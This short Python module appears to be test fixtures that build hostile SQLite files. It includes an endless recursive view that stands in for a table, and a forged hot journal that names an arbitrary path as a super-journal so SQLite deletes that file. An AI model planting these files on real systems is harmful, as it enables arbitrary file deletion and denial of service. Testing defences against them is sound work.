"""SQLite files as an attacker leaves them."""

from __future__ import annotations

import struct
from pathlib import Path

ENDLESS = (
    "CREATE VIEW {} AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
    "SELECT 'plain' AS name, '{{}}' AS value, i FROM n"
)
"""A view that never ends, in place of a table."""
_MAGIC = bytes.fromhex("d9d505f920a163d7")


def hot_journal(database: Path, deleted: Path) -> Path:
    """A journal beside ``database`` that has SQLite delete the file ``deleted``.

    It names it as the journal of a transaction over several files ("super-journal"), which is
    removed once no journal is left that names it back.
    """
    name = bytes(str(deleted), "utf-8")
    header = struct.pack(">8sIIIII", _MAGIC, 0, 1, 1, 512, 4096).ljust(512, b"\0")
    last = struct.pack(">I", 1 << 30) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header + last)
    return journal
